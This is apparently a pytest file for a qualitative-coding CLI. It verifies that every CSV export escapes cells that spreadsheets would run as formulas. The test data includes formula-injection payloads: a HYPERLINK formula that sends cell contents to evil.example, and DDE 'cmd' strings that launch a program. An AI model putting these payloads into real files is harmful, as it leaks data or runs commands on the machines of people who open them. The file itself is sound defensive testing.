"""Formula injection (issue 14, item 1): every CSV qcode writes protects text that a
spreadsheet would run, and the list of commands checked here is proved complete."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import click
import pytest
import yaml

from qcode.cli import main
from qcode.core.csvsafe import FORMULA_START, protect, unprotect
from tests.conftest import ROOT, Cli

# Code names as an attacker would write them; each starts a formula in a spreadsheet.
CODES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
         "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "'quoted"]
CODERS = ["=alice", "@bob"]
ATTRIBUTE = "@group"
TEXTS = ["=1+1 said the first speaker.", "-10+20 said the second.", "+plus, then text.",
         "@mention at the start.", "\tindented first, a tab."]
DOCUMENT = "=interview"

# Every command that writes CSV, with the arguments that make it do so.
CSV_COMMANDS: dict[tuple[str, ...], list[tuple[str, ...]]] = {
    ("report", "frequencies"): [(), ("--by", "document"), ("--by", "coder"),
                                ("--by", ATTRIBUTE)],
    ("report", "cooccurrence"): [(), ("--measure", "jaccard"), ("--rollup",)],
    ("report", "segments"): [(CODES[0],), (CODES[1], "--with-children")],
    ("report", "summary"): [()],
    ("report", "matrix"): [(), ("--by", "coder"), ("--unit", "document", "--by", "coder")],
    ("agree",): [(), ("--disagreements",)],
    ("codebook", "export"): [("{file}",)],
}
# Commands whose --format offers csv without writing any, and how that is known.
NOT_CSV_WRITERS = {
    ("report", "all"): "refuses csv: a report of several tables",
    ("codebook", "import"): "reads CSV",
    ("codebook", "merge"): "reads CSV",
}


@pytest.fixture
def hostile(cli: Cli, tmp_path: Path) -> Cli:
    assert cli("init").exit_code == 0
    transcript = tmp_path / f"{DOCUMENT}.txt"
    transcript.write_text("\n\n".join(TEXTS) + "\n", encoding="utf-8")
    assert cli("import", str(transcript), "-a", f"{ATTRIBUTE}==1+1").exit_code == 0
    codebook = tmp_path / "codes.yaml"
    codebook.write_text(yaml.safe_dump({
        "format": "qcode-codebook", "name": "=hostile",
        "codes": [{"name": c, "definition": f"=definition {i}"} for i, c in enumerate(CODES)],
    }), encoding="utf-8")
    loaded = cli("codebook", "load", str(codebook))
    assert loaded.exit_code == 0, loaded.output
    for n, coder in enumerate(CODERS):
        for paragraph in ("1", "2", str(3 + n)):
            result = cli("tag", f"--memo=-memo by {coder}", "--", DOCUMENT, paragraph,
                         CODES[(n + int(paragraph)) % len(CODES)], CODES[0], coder=coder)
            assert result.exit_code == 0, result.output
    return cli


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_protected(text: str, where: str) -> None:
    found = cells(text)
    assert found, f"{where}: no CSV"
    for cell in found:
        if cell.startswith(FORMULA_START) and not cell.startswith("'"):
            try:
                float(cell)  # a number, written as one (a negative kappa)
            except ValueError:
                pytest.fail(f"{where}: cell {cell!r} would run as a formula")
    assert any(cell.startswith("'") for cell in found), f"{where}: nothing hostile reached it"


@pytest.mark.parametrize(("command", "extra"), [
    (command, extra) for command, variants in CSV_COMMANDS.items() for extra in variants])
def test_every_csv_qcode_writes_is_protected(hostile: Cli, tmp_path: Path,
                                             command: tuple[str, ...],
                                             extra: tuple[str, ...]) -> None:
    target = tmp_path / "out.csv"
    if "{file}" in extra:
        args = [*command, *(str(target) if a == "{file}" else a for a in extra)]
        assert hostile(*args, "--format", "csv").exit_code == 0
        outputs = {"file": target.read_text(encoding="utf-8-sig")}
        stdout = hostile(*command, "-", "--format", "csv")
        outputs["stdout"] = stdout.stdout
    else:
        printed = hostile(*command, *extra, "--format", "csv")
        assert printed.exit_code == 0, printed.output
        written = hostile(*command, *extra, "-o", str(target))
        assert written.exit_code == 0, written.output
        outputs = {"stdout": printed.stdout, "file": target.read_text(encoding="utf-8")}
    for where, text in outputs.items():
        assert_protected(text, f"{' '.join(command + extra)} ({where})")
    # A tidy-data reader gets the text back by the README's rule.
    back = {unprotect(cell) for cell in cells(outputs["file"])}
    assert back & {*CODES, *CODERS, *TEXTS, DOCUMENT, "=1+1"}


def test_the_rule_and_its_inverse() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "'"):
        text = f"{start}x"
        assert protect(text) == f"'{text}" and unprotect(protect(text)) == text
    assert protect("plain") == "plain" and unprotect("'plain") == "'plain"
    assert unprotect(protect("'")) == "'"


def csv_format_commands() -> set[tuple[str, ...]]:
    """Every command with an option whose choices include csv (by walking the CLI)."""
    found: set[tuple[str, ...]] = set()

    def walk(command: click.Command, path: tuple[str, ...]) -> None:
        if isinstance(command, click.Group):
            for name, sub in command.commands.items():
                walk(sub, (*path, name))
            return
        for param in command.params:
            if isinstance(param.type, click.Choice) and "csv" in param.type.choices:
                found.add(path)

    walk(main, ())
    return found


def test_the_list_of_csv_writers_is_complete(hostile: Cli) -> None:
    offered = csv_format_commands()
    listed = set(CSV_COMMANDS) | set(NOT_CSV_WRITERS)
    assert offered == listed, (
        f"commands offering csv but not checked here: {sorted(offered - listed)}; "
        f"listed but offering no csv: {sorted(listed - offered)}")
    refused = hostile("report", "all", "--format", "csv")
    assert refused.exit_code == 2 and "csv holds one table" in refused.stderr


def test_no_csv_writer_outside_the_one_that_protects() -> None:
    """A module that writes CSV on its own would skip the protection."""
    writers = []
    for path in sorted((ROOT / "qcode").rglob("*.py")):
        if path.name == "csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
                    and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == []
